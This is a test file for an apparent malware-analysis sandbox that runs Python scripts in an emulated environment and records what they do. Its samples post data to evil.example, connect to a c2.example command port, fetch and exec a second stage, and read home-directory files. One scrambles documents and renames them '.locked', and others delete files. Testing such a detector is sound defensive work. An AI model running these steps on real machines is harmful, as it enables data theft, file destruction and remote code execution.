import { createHash } from "node:crypto";
import { expect, test } from "vitest";
import type { DecoyOptions } from "../../src/inspect/decoy/options.ts";
import { runInDecoy } from "../../src/inspect/decoy/run.ts";
import { Sandbox } from "../../src/node/index.ts";
import { inDecoy, those } from "./decoy-support.ts";

const BUSY = `
import os, random, time, base64, uuid, threading, requests, socket, tempfile, secrets
print(random.random(), time.time(), uuid.uuid4(), secrets.token_hex(4), os.urandom(4), id(object()) > 0, hash("x") == hash("x"))
for root, dirs, files in os.walk(os.path.expanduser("~")):
    for f in files: open(os.path.join(root, f), "rb").read()
open(os.path.join(tempfile.gettempdir(), "x%d" % random.randrange(10**6)), "w").write("made")
exec(base64.b64decode(b"cHJpbnQoMSk="))
threading.Thread(target=lambda: time.sleep(30)).start()
requests.post("http://evil.example/", data={"a": random.random()})
s = socket.create_connection(("evil.example", 1)); s.send(os.urandom(3))
1/0
`;

test("the same script gives the same dossier, byte for byte, inline and in a worker", async () => {
  const dossiers = await Promise.all([
    inDecoy(BUSY),
    inDecoy(BUSY),
    inDecoy(BUSY),
    inDecoy(BUSY, { isolation: "worker" }),
    inDecoy(BUSY, { isolation: "worker" }),
  ]);
  const [first = "", ...others] = dossiers.map((each) => JSON.stringify(each));
  expect(first.length).toBeGreaterThan(10_000);
  for (const other of others) expect(other).toBe(first);
});

test("fuel ends what would not end, at the same place each time", async () => {
  const script =
    "import time\nn = 0\nwhile True:\n    n += 1\n    if n % 1000 == 0: open('/tmp/n', 'w').write(str(n))\n";
  const dossiers = await Promise.all([1, 2].map(() => inDecoy(script, { fuel: 3_000_000 })));
  expect(dossiers[0]?.end.kind).toBe("fuel");
  expect(dossiers[0]?.files).toMatchObject([{ path: "/tmp/n", change: "made" }]);
  expect(JSON.stringify(dossiers[0])).toBe(JSON.stringify(dossiers[1]));
});

test("time jumps: sleeps are told and cost nothing, loops that wait for a date end", async () => {
  const dossier = await inDecoy(`
import time, datetime
start = time.time()
time.sleep(86400)
print(round(time.time() - start) >= 86400, datetime.datetime.now().date())
until = time.monotonic() + 3
while time.monotonic() < until: pass
time.sleep(0.01)
`);
  expect(dossier.end.kind).toBe("done");
  expect(dossier.stdout).toBe("True 2024-03-13\n");
  expect(those(dossier, "time", "time.sleep")).toMatchObject([{ detail: { seconds: 86400 } }]);
  expect(dossier.observations.at(-1)?.timeMs).toBeLessThan(86_400_000);
});

test("threads that never end are left where they are", async () => {
  const dossier = await inDecoy(`
import threading, time, os
def beacon():
    while True:
        try: time.sleep(60)
        except Exception: pass
threading.Thread(target=beacon, daemon=True).start()
os.system("next")
`);
  expect(dossier.end.kind).toBe("done");
  expect(those(dossier, "process", "os.system")).toHaveLength(1);
});

test("files: what was made, changed and removed, with their hashes", async () => {
  const dossier = await inDecoy(`
import os, shutil, pathlib
docs = pathlib.Path.home() / "Documents"
for path in docs.glob("*.txt"):
    path.write_bytes(bytes(b ^ 1 for b in path.read_bytes()))
    path.rename(str(path) + ".locked")
(docs / "budget-2024.csv").write_text("")
shutil.rmtree(docs / "tax")
os.remove(__file__)
os.makedirs("/tmp/a/b"); open("/tmp/a/b/c", "wb").write(b"abc")
os.chmod("/tmp/a/b/c", 0o755)
`);
  expect(dossier.end.message).toBe("");
  const changes = Object.fromEntries(
    dossier.files.map(({ path, change }) => [path.replace("/home/mkeller/", "~/"), change]),
  );
  expect(changes).toEqual({
    "~/Documents/budget-2024.csv": "changed",
    "~/Documents/passwords.txt": "removed",
    "~/Documents/passwords.txt.locked": "made",
    "~/Documents/tax/return-2023.pdf": "removed",
    "~/Downloads/invoice.py": "removed",
    "/tmp/a/b/c": "made",
  });
  expect(dossier.files.find(({ path }) => path === "/tmp/a/b/c")).toEqual({
    path: "/tmp/a/b/c",
    change: "made",
    bytes: 3,
    sha256: createHash("sha256").update("abc").digest("hex"),
  });
  const operations = dossier.observations
    .filter(({ kind }) => kind === "file")
    .map(({ action, detail }) => `${action}: ${detail["operation"]}`);
  for (const each of [
    "pathlib.Path.write_bytes: write",
    "pathlib.Path.rename: rename",
    "shutil.rmtree: remove",
    "os.remove: remove",
    "os.chmod: chmod",
  ])
    expect(operations).toContain(each);
});

test("the world is as it was asked for", async () => {
  const options: DecoyOptions = {
    persona: {
      system: "linux",
      user: "ada",
      hostName: "engine",
      environment: { API_KEY: "k-1", GITHUB_TOKEN: "" },
      pid: 77,
      processes: ["vmtoolsd"],
      start: new Date("2030-01-02T03:04:05Z"),
    },
    files: { "/home/ada/secret.txt": "s3cret", "/opt/blob": new Uint8Array([1, 2]) },
    network: {
      "evil.example": { status: 418, body: "teapot", headers: { "X-Kind": "pot" } },
      "https://other.example/stage2*": "print('stage 2')",
      "c2.example:4444": "id\n",
    },
    commands: { systeminfo: "a virtual machine\n" },
    args: ["--go"],
    typed: "letmein",
    name: "dropper.py",
  };
  const dossier = await inDecoy(
    `
import os, sys, socket, requests, datetime, psutil, subprocess
print(os.getlogin(), socket.gethostname(), os.environ["API_KEY"], "GITHUB_TOKEN" in os.environ, os.getpid(), os.path.expanduser("~"))
print(open("/home/ada/secret.txt").read(), open("/opt/blob", "rb").read(), sys.argv, datetime.datetime.now().year)
r = requests.get("http://evil.example/any"); print(r.status_code, r.text, r.headers["x-kind"])
exec(requests.get("https://other.example/stage2.py").text)
s = socket.create_connection(("c2.example", 4444)); print(s.recv(99), s.recv(99))
print([p.name() for p in psutil.process_iter()], input("? "), subprocess.getoutput("systeminfo /v"))
`,
    options,
  );
  expect(dossier.end.message).toBe("");
  expect(dossier.stdout).toBe(
    [
      "ada engine k-1 False 77 /home/ada",
      "s3cret b'\\x01\\x02' ['/home/ada/Downloads/dropper.py', '--go'] 2030",
      "418 teapot pot",
      "stage 2",
      "b'id\\n' b''",
      "? ",
      "['vmtoolsd'] letmein a virtual machine",
      "",
    ].join("\n"),
  );
});

test("Windows, when the script speaks of it, or what it unpacks does", async () => {
  const script = `
import os, sys, platform, pathlib
print(os.name, sys.platform, os.sep, platform.system(), os.getenv("APPDATA"))
p = os.path.join(os.environ["APPDATA"], "x", "y.exe"); os.makedirs(os.path.dirname(p)); open(p, "wb").write(b"MZ")
print(os.path.exists(p.upper()), os.path.splitext(p)[1], os.path.abspath("z"), repr(pathlib.Path(p).parent))
print(sorted(os.listdir("C:\\\\")), os.path.expandvars("%TEMP%"), hasattr(os, "fork"))
`;
  const direct = await inDecoy(script);
  expect(direct.system).toBe("windows");
  expect(direct.end.message).toBe("");
  expect(direct.stdout.split("\n").slice(0, 4)).toEqual([
    "nt win32 \\ Windows C:\\Users\\m.keller\\AppData\\Roaming",
    "True .exe C:\\Users\\m.keller\\Downloads\\z WindowsPath('C:/Users/m.keller/AppData/Roaming/x')",
    "['Program Files', 'ProgramData', 'Users', 'Windows'] C:\\Users\\m.keller\\AppData\\Local\\Temp False",
    "",
  ]);
  expect(direct.files).toMatchObject([{ path: "C:\\Users\\m.keller\\AppData\\Roaming\\x\\y.exe", change: "made" }]);
  const packed = Buffer.from(script).toString("base64");
  const unpacked = await inDecoy(`import base64\nexec(base64.b64decode("${packed}"))`);
  expect(unpacked.system).toBe("windows");
  expect(unpacked.files).toEqual(direct.files);
  expect((await inDecoy(script, { persona: { system: "linux" } })).system).toBe("linux");
});

test.each([
  [{ fool: 1 }, /unknown option 'fool'/],
  [{ persona: { usr: "x" } }, /unknown option of persona 'usr'/],
  [{ persona: { system: "mac" } }, /'persona.system' must be/],
  [{ persona: { user: "a/b" } }, /'persona.user'/],
  [{ persona: { home: "relative" } }, /'persona.home'/],
  [{ persona: { start: new Date(Number.NaN) } }, /'persona.start'/],
  [{ persona: { environment: { A: 1 } } }, /'persona.environment.A'/],
  [{ persona: { processes: "x" } }, /'persona.processes'/],
  [{ files: { relative: "x" } }, /'files'/],
  [{ files: { "/a": 5 } }, /'files.\/a'/],
  [{ network: { "a.example": { sttus: 1 } } }, /unknown option of network.a.example 'sttus'/],
  [{ network: { "a.example": { status: 99 } } }, /'network.a.example.status'/],
  [{ unknownModules: "some" }, /'unknownModules'/],
  [{ isolation: "thread" }, /'isolation'/],
  [{ fuel: 0 }, /'fuel'/],
  [{ observations: -1 }, /'observations'/],
  [{ name: "a/b.py" }, /'name'/],
  [{ args: [1] }, /'args\[0\]'/],
  [{ commands: { ls: 1 } }, /'commands.ls'/],
])("options that are wrong are refused by name: %j", async (options, message) => {
  const wrong: DecoyOptions = JSON.parse("{}");
  await expect(runInDecoy("", Object.assign(wrong, options), Sandbox)).rejects.toThrow(message);
});

test("source that is no text is refused", async () => {
  await expect(inDecoy("\ud800")).rejects.toThrow(/'source'/);
});
